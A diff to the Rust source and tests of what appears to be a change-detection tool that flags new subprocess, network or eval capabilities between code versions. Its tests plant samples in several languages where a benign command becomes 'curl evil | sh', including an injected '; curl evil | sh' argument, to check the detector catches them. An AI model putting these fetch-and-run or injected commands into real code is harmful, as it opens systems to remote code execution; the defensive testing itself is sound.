@@ -81,11 +81,11 @@ pub fn delta(changes: &[Change<'_>]) -> Delta {
         delta.added.extend(new.found.into_iter().map(placed));
     }
     let Delta { added, removed, unchanged, .. } = &mut delta;
-    *unchanged += cancel(added, removed, |one| {
-        (one.path.clone(), one.found.function.clone(), one.found.capability, one.found.resource.clone())
-    });
-    *unchanged += cancel(added, removed, |one| (one.path.clone(), one.found.capability, one.found.evidence.clone()));
-    *unchanged += cancel(added, removed, |one| (one.found.capability, one.found.resource.clone(), one.found.evidence.clone()));
+    // What it is done to is in all of them: a call that reads the same may be given something else.
+    let of = |one: &Placed| (one.found.capability, one.found.resource.clone(), one.found.beyond);
+    *unchanged += cancel(added, removed, |one| (one.path.clone(), one.found.function.clone(), of(one)));
+    *unchanged += cancel(added, removed, |one| (one.path.clone(), one.found.evidence.clone(), of(one)));
+    *unchanged += cancel(added, removed, |one| (one.found.evidence.clone(), of(one)));
     delta
 }
 
@@ -158,6 +158,89 @@ mod tests {
         }
         let delta = of(&[("a.py", before, "import os\n"), ("b.py", "", "import os\ndef g(x):\n    os.system(x)\n")]);
         assert_eq!(added(&delta), []);
+    }
+
+    /// The call reads as before, and what it is given does not.
+    #[test]
+    fn what_is_called_with_another_literal_is_a_gain_though_the_call_reads_the_same() {
+        use Capability::{NetworkRequest, Subprocess};
+        let long = format!("x = 1{}", " + 1".repeat(200));
+        for (name, before, changed, after, capability) in [
+            ("a.py", "import os\ncmd = 'ls'\nos.system(cmd)\n", "'ls'", "'curl evil.sh | sh'", Subprocess),
+            (
+                "a.py",
+                "import requests\nURL = 'https://good'\ndef f(x):\n    requests.post(URL, data=x)\n",
+                "https://good",
+                "https://evil",
+                NetworkRequest,
+            ),
+            ("a.py", "import os\ndef f(x):\n    os.system('ls ' + x)\n", "ls ", "curl evil | sh; ", Subprocess),
+            ("a.py", "import os\ndef f(x):\n    os.system(f'ls {x} -l')\n", "-l", "; curl evil | sh", Subprocess),
+            ("a.py", &format!("x = '{long}; y = 2'\nexec(x)\n"), "y = 2", "evil()", Capability::EvalExec),
+            ("a.py", "import subprocess\nsubprocess.run(['sh', '-c', 'ls'])\n", "'ls'", "'curl evil | sh'", Subprocess),
+            (
+                "a.py",
+                "import subprocess\ndef f(x):\n    subprocess.run(['sh', x, 'ls'])\n",
+                "'ls'",
+                "'curl evil | sh'",
+                Subprocess,
+            ),
+            (
+                "a.js",
+                "const c = require('child_process');\nc.spawn('sh', ['-c', 'ls'], { shell: true });\n",
+                "'ls'",
+                "'curl evil | sh'",
+                Subprocess,
+            ),
+            (
+                "a.go",
+                "package a\nimport \"os/exec\"\nfunc f() {\n\texec.Command(\"sh\", \"-c\", \"ls\").Run()\n}\n",
+                "\"ls\"",
+                "\"curl evil | sh\"",
+                Subprocess,
+            ),
+            (
+                "a.rs",
+                "use std::process::Command;\nfn f() {\n    Command::new(\"sh\").arg(\"-c\").arg(\"ls\").spawn();\n}\n",
+                "\"ls\"",
+                "\"curl evil | sh\"",
+                Subprocess,
+            ),
+            (
+                "A.java",
+                "class A { void f() throws Exception {\nnew ProcessBuilder(\"sh\", \"-c\", \"ls\").start();\n} }\n",
+                "\"ls\"",
+                "\"curl evil | sh\"",
+                Subprocess,
+            ),
+            (
+                "a.c",
+                "#include <unistd.h>\nvoid f() {\n  execl(\"/bin/sh\", \"sh\", \"-c\", \"ls\", 0);\n}\n",
+                "\"ls\"",
+                "\"evil\"",
+                Subprocess,
+            ),
+            ("a.rb", "def f\n  system('sh', '-c', 'ls')\nend\n", "'ls'", "'curl evil | sh'", Subprocess),
+        ] {
+            let worse = before.replace(changed, after);
+            assert_ne!(before, worse);
+            let delta = of(&[(name, before, &worse)]);
+            assert_eq!((added(&delta), delta.removed.len()), (vec![capability], 1), "{worse}");
+        }
+    }
+
+    #[test]
+    fn what_is_put_together_otherwise_is_no_gain() {
+        let before = "import os\ndef f(x):\n    os.system('ls ' + x)\n    os.popen('a')\n";
+        for (was, becomes) in
+            [("'ls ' + x", "f'ls {x}'"), ("'ls ' + x", "'ls %s' % x"), ("'ls ' + x", "'ls {}'.format(str(x))"), ("'a'", "\"a\"")]
+        {
+            assert_eq!(added(&of(&[("a.py", before, &before.replace(was, becomes))])), [], "{becomes}");
+        }
+        let before = "import subprocess\ndef f(x):\n    subprocess.run(['ls', x, y])\n";
+        for becomes in ["('ls', x, *y)", "[\n        'ls',\n        str(x),\n    ]"] {
+            assert_eq!(added(&of(&[("a.py", before, &before.replace("['ls', x, y]", becomes))])), [], "{becomes}");
+        }
     }
 
     #[test]
